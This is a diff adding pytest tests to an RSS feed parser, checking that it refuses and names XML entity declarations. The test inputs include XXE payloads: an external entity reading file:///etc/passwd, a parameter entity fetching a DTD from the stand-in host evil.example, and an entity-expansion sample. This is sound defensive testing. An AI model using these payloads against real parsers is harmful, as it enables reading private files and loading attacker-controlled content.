@@ -143,6 +143,54 @@ def test_broken_documents_report_a_problem_not_an_exception(data: bytes) -> None
     assert parsed.problem
 
 
+def _declaring(*declarations: str, title: str = "Haftar") -> bytes:
+    subset = "\n".join(declarations)
+    return (f'<?xml version="1.0"?>\n<!DOCTYPE rss [\n{subset}\n]>\n<rss version="2.0"><channel>'
+            f"<title>t</title><item><guid>1</guid><title>{title}</title></item></channel></rss>"
+            ).encode()
+
+
+@pytest.mark.parametrize(
+    ("doc", "refused"),
+    [
+        (_declaring('<!ENTITY x SYSTEM "file:///etc/passwd">', title="Haftar &x;"),
+         ['x (external: SYSTEM "file:///etc/passwd")']),
+        (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+         b'<rss version="2.0"><channel><title>t</title><item><guid>1</guid>'
+         b"<title>Haftar &x;</title></item></channel></rss>",  # all on one line: dropped silently
+         ['x (external: SYSTEM "file:///etc/passwd")']),
+        (_declaring('<!ENTITY % p SYSTEM "http://evil.example/x.dtd">', "%p;"),
+         ['%p (external: SYSTEM "http://evil.example/x.dtd")']),
+        (_declaring('<!ENTITY a "lol">', '<!ENTITY b "&a;&a;&a;&a;">', title="Haftar &b;"),
+         ["b (built of other entities)"]),
+        (_declaring(*(f'<!ENTITY e{i} PUBLIC "-//x//{i}" "http://e.example/{i}">'
+                      for i in range(7))), None),  # five named, then a count
+        (_declaring('<!ENTITY a "lol">', title="Haftar &a;"), []),  # plain text: read
+        ((FEEDS / "chardet__KOI8-R__aif.ru.health.xml").read_bytes(), []),  # a public DTD
+    ],
+    ids=["xxe", "xxe-one-line", "parameter", "expansion", "many", "plain", "netscape-dtd"],
+)
+def test_refused_entities_are_named_in_the_problem(doc: bytes, refused: list[str] | None) -> None:
+    parsed = parse_feed(doc, "f", "f", "https://example.org/")
+    assert parsed.items and "root:" not in parsed.items[0].title  # /etc/passwd never read
+    if refused is None:  # seven refused
+        assert parsed.problem is not None
+        assert parsed.problem.count("(external: PUBLIC") == 5
+        assert "e4 (external" in parsed.problem and "and 2 more" in parsed.problem
+    elif refused:
+        assert parsed.problem is not None and parsed.problem.startswith(
+            "XML entities refused, not read or expanded (an XXE attempt?): "
+            + ", ".join(refused)), parsed.problem
+    else:
+        assert "entities refused" not in (parsed.problem or "")
+    if b'<!ENTITY a "lol">' in doc and b"&b;" not in doc:
+        assert parsed.items[0].title == "Haftar lol"
+
+
+def test_no_corpus_feed_is_taken_for_an_entity_attempt() -> None:
+    assert [p.name for p in ALL_FEEDS if feeds_module.refused_entities(p.read_bytes())] == []
+
+
 def test_a_body_naming_a_local_file_is_not_read_as_that_file(tmp_path: Path) -> None:
     # A hostile server answers with the path of a feed on the daemon's own disk.
     local = tmp_path / "private.xml"
